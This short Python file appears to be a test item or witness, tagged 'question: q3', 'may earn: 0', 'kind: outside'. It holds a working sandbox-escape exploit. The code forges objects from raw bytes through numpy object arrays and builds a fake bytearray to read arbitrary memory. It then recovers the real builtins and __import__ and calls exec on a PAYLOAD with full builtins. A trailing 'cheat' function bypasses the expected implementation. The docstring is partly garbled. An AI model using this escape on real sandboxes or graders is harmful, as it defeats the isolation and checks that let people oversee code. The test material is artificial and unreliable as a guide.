"""Total escape: numpy makes an array of objects out of any bytes, so an address is an object.

np.ndarray is handed out as it is. A bytearray that is made up in bytes reads all memory, there the built-ins of a function, and
in them the real __import__.
"""

# question: q3
# may earn: 0
# witness: yes
# kind: outside

import numpy as np


def word(n):
    return n.to_bytes(8, "little")


kept = []


def thing_at(address):
    kept.append(word(address))
    array = np.ndarray((1,), dtype=object, buffer=kept[-1])
    kept.append(array)
    return array[0]


def read(address):
    fake = word(99) + word(id(bytearray)) + word(8) + word(9) + word(address) + word(address) + word(0)
    kept.append(fake)
    memory = thing_at(id(fake) + 32)
    return int.from_bytes(memory[:8], "little")


def f():
    pass


builtins = thing_at(read(id(f) + 24))
module = builtins["__import__"]("builtins")
box = thing_at(read(id(module) + 16))
box["exec"](PAYLOAD, {"__builtins__": box})


def cheat(layer, x, shape):
    return pool(x, layer.k, layer.s, layer.p)
